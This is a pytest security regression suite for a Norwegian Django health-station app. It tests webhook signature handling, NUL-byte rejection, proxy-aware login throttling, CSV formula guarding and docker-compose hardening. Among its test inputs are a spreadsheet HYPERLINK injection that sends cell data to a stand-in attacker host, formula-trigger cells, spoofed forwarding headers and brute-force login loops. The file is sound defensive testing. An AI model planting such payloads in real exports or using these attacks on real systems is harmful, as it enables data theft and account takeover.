"""The smaller holes of issue 13 (findings 7 and 9), each closed.

The SMS webhook's signature compared as bytes; NUL refused in every body; login throttling per client
address behind the TLS proxy; SMS_BACKEND required outside DEBUG and never logging at INFO; a formula
guard on every CSV cell; docker-compose publishing gunicorn on loopback only, PostgreSQL with passwords.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from django.test import Client, RequestFactory
from django.urls import reverse

from followup.sms import services
from followup.sms.backends import ConsoleBackend
from helsestasjon.backends import client_ip_address
from helsestasjon.spreadsheets import formula_safe
from tests.factories import PASSWORD

ROOT = Path(__file__).resolve().parents[2]
WEBHOOK = "followup:sms_delivery_report"
SECRET = "delt-hemmelighet"


def _client() -> Client:
    """A client that sees the response a browser would get, not the exception behind a 500."""
    return Client(raise_request_exception=False)


def _report(**fields) -> bytes:
    return json.dumps({"report_id": "r-1", "message_id": "gw-1", "status": "delivered", **fields}).encode()


def _post_report(body: bytes, signature: str | None = None):
    signature = signature if signature is not None else "sha256=" + services.signature_for(body, SECRET)
    return _client().post(reverse(WEBHOOK), data=body, content_type="application/json", HTTP_X_SIGNATURE=signature)


# --- The SMS delivery-report webhook ------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("signature", ["sha256=æøå", "sha256=" + "€" * 64, "sha256=zz", "sha256=", "\u202e" * 3])
def test_a_malformed_or_non_ascii_webhook_signature_is_a_403_not_a_500(settings, signature):
    settings.SMS_WEBHOOK_SECRET = SECRET
    response = _post_report(_report(), signature=signature)
    assert response.status_code == 403


@pytest.mark.django_db
def test_a_correctly_signed_report_with_a_nul_in_its_id_is_a_400_not_a_500(settings):
    settings.SMS_WEBHOOK_SECRET = SECRET
    response = _post_report(_report(report_id="r-\u0000-1"))
    assert response.status_code == 400


@pytest.mark.django_db
def test_the_report_service_refuses_a_nul_even_without_the_middleware():
    with pytest.raises(services.BadReport):
        services.sms_delivery_report(body=_report(message_id="gw\u00001"))


@pytest.mark.django_db
def test_a_correctly_signed_report_still_arrives_after_the_nul_check_read_the_body(settings):
    settings.SMS_WEBHOOK_SECRET = SECRET
    response = _post_report(_report(report_id="r-ok"))
    assert response.status_code == 200 and response.json()["ok"] is True


# --- NUL bytes in any request ---------------------------------------------------------------------


@pytest.mark.django_db
def test_a_nul_byte_in_a_multipart_post_is_a_clear_400():
    response = _client().post(reverse("login"), {"username": "ola\x00", "password": "x"})  # multipart by default
    assert response.status_code == 400
    assert "ugyldige tegn" in response.content.decode()


@pytest.mark.django_db
def test_a_nul_byte_in_a_multipart_field_name_is_a_400():
    response = _client().post(reverse("login"), {"user\x00name": "ola", "password": "x"})
    assert response.status_code == 400


@pytest.mark.django_db
@pytest.mark.parametrize(
    "body, content_type",
    [
        (b'{"q": "ola\\u0000"}', "application/json"),
        (b'{"ola\\u0000": 1}', "application/json"),
        (b'["a", {"b": ["\\u0000"]}]', "application/vnd.api+json"),
        (b"ola\x00", "text/plain"),
        (b"username=ola%00", "application/x-www-form-urlencoded"),
    ],
    ids=["json-value", "json-key", "json-nested", "raw", "form"],
)
def test_a_nul_byte_in_any_body_is_a_400(body, content_type):
    response = _client().post(reverse("login"), data=body, content_type=content_type)
    assert response.status_code == 400
    assert "ugyldige tegn" in response.content.decode()


@pytest.mark.django_db
def test_an_escaped_backslash_before_u0000_in_json_is_not_a_nul(settings):
    # The text \u0000 (a backslash, then "u0000") is no NUL: the webhook answers for itself (wrong signature).
    settings.SMS_WEBHOOK_SECRET = SECRET
    response = _post_report(b'{"report_id": "\\\\u0000"}', signature="sha256=00")
    assert response.status_code == 403


@pytest.mark.django_db
def test_a_nul_byte_in_the_path_or_query_is_a_400():
    assert _client().get("/barn/%00/").status_code == 400
    assert _client().get(reverse("login"), {"next": "/\x00"}).status_code == 400


# --- Login throttling behind the TLS proxy --------------------------------------------------------

PROXY = "10.0.0.2"


def _login(username, password, client_address):
    """A login through the TLS proxy: the proxy is the peer and appends the client's address."""
    return _client().post(
        reverse("login"), {"username": username, "password": password},
        REMOTE_ADDR=PROXY, HTTP_X_FORWARDED_FOR=client_address,
    )


@pytest.mark.django_db
def test_an_attacker_behind_the_proxy_locks_only_their_own_address_not_the_nurse(settings, nurse_a):
    settings.TRUSTED_PROXY_COUNT = 1
    for _ in range(settings.AXES_FAILURE_LIMIT):
        _login(nurse_a.username, "feil-passord", "203.0.113.9")
    # The attacker is locked out, even with the right password...
    assert _login(nurse_a.username, PASSWORD, "203.0.113.9").status_code != 302
    # ...while the nurse, at her own address behind the same proxy, logs in.
    assert _login(nurse_a.username, PASSWORD, "198.51.100.7").status_code == 302


@pytest.mark.django_db
def test_an_attacker_trying_many_usernames_is_locked_by_address(settings, nurse_a):
    settings.TRUSTED_PROXY_COUNT = 1
    for n in range(settings.AXES_FAILURE_LIMIT):
        _login(f"gjett{n}", "feil-passord", "203.0.113.9")
    assert _login(nurse_a.username, PASSWORD, "203.0.113.9").status_code != 302


def test_the_client_address_is_the_one_the_trusted_proxy_appended(settings):
    factory = RequestFactory()
    settings.TRUSTED_PROXY_COUNT = 1
    # A client that writes its own X-Forwarded-For only adds entries to the left of the proxy's.
    spoofed = factory.get("/", REMOTE_ADDR=PROXY, HTTP_X_FORWARDED_FOR="192.0.2.1, 203.0.113.9")
    assert client_ip_address(spoofed) == "203.0.113.9"
    assert client_ip_address(factory.get("/", REMOTE_ADDR=PROXY)) == PROXY
    assert client_ip_address(factory.get("/", REMOTE_ADDR=PROXY, HTTP_X_FORWARDED_FOR="ikke-en-adresse")) == PROXY
    settings.TRUSTED_PROXY_COUNT = 0
    assert client_ip_address(spoofed) == PROXY


# --- SMS_BACKEND and the console backend ----------------------------------------------------------


def _run_manage(*args: str, **env: str) -> subprocess.CompletedProcess:
    base = {"PATH": os.environ["PATH"], "HOME": os.environ.get("HOME", "/root")}
    return subprocess.run(
        [sys.executable, "manage.py", *args], cwd=ROOT, env={**base, **env}, capture_output=True, text=True, timeout=120
    )


def test_startup_stops_without_sms_backend_outside_debug():
    result = _run_manage("check", SECRET_KEY="k" * 60, ALLOWED_HOSTS="helsestasjon.kommune.no")
    assert result.returncode != 0
    assert "SMS_BACKEND must be set" in result.stderr


def test_sms_backend_may_be_left_out_with_debug():
    result = _run_manage("check", DEBUG="true")
    assert "SMS_BACKEND" not in result.stderr


def test_the_console_backend_logs_neither_number_nor_text_at_info(caplog):
    number, text = "+4791234567", "Påminnelse: time på helsestasjonen"
    with caplog.at_level(logging.INFO, logger="followup.sms.backends"):
        ConsoleBackend().send(number, text)
    assert not [r for r in caplog.records if r.levelno >= logging.INFO]
    caplog.clear()
    with caplog.at_level(logging.DEBUG, logger="followup.sms.backends"):
        ConsoleBackend().send(number, text)
    logged = " ".join(r.getMessage() for r in caplog.records)
    assert "91234567" not in logged and "***67" in logged


# --- CSV formula guard ----------------------------------------------------------------------------


@pytest.mark.parametrize("cell", ["=1+1", "+47 123", "-2", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_that_a_spreadsheet_would_evaluate_gets_a_leading_apostrophe(cell):
    assert formula_safe(cell) == "'" + cell


def test_ordinary_cells_and_numbers_pass_unchanged():
    assert [formula_safe(v) for v in ["Bergen", "28,6", "", 7, -3]] == ["Bergen", "28,6", "", 7, -3]


@pytest.mark.django_db
def test_the_kostra_csv_guards_station_and_municipality_names(login, leader_a, station_a):
    station_a.name = '=HYPERLINK("http://angriper.example/?"&A1;"Klikk")'
    station_a.save()
    municipality = station_a.municipality
    municipality.name = "@SUM(1+1)"
    municipality.save()
    body = login(leader_a).get(reverse("followup:statistics:kostra_csv"), {"fra": "2025-01-01", "til": "2025-12-31"}).content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8").lstrip("\ufeff")), delimiter=";"))
    assert len(rows) > 1
    for row in rows[1:]:
        assert row[1] == "'@SUM(1+1)"
        assert row[2].startswith("'=HYPERLINK")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# --- docker-compose -------------------------------------------------------------------------------

COMPOSE = (ROOT / "docker-compose.yml").read_text()


def test_compose_publishes_gunicorn_on_loopback_only():
    published = re.findall(r'ports:\s*\[([^\]]*)\]', COMPOSE) + re.findall(r'^\s*-\s*"?([\d.:]+:\d+)"?\s*$', COMPOSE, re.M)
    assert published, "web must be published for the host's TLS proxy"
    for ports in published:
        for port in re.findall(r'"([^"]+)"', ports) or [ports]:
            assert port.startswith("127.0.0.1:"), port


def test_compose_runs_postgresql_with_password_authentication():
    assert not re.search(r"POSTGRES_HOST_AUTH_METHOD:\s*trust", COMPOSE)
    assert "POSTGRES_PASSWORD_FILE: /run/secrets/postgres_password" in COMPOSE
    assert "DATABASE_PASSWORD_FILE: /run/secrets/postgres_password" in COMPOSE
    assert "--auth-local=scram-sha-256" in COMPOSE


def test_the_database_password_comes_from_its_own_setting(tmp_path):
    secret = tmp_path / "pw"
    secret.write_text("hemmelig-passord\n")
    code = "import django; django.setup(); from django.conf import settings; print(settings.DATABASES['default']['PASSWORD'])"
    result = subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=120,
        env={"PATH": os.environ["PATH"], "HOME": os.environ.get("HOME", "/root"), "DEBUG": "true",
             "DJANGO_SETTINGS_MODULE": "helsestasjon.settings", "DATABASE_PASSWORD_FILE": str(secret),
             "DATABASE_URL": "postgres://helsestasjon@db:5432/helsestasjon"},
    )
    assert result.stdout.strip() == "hemmelig-passord", result.stderr
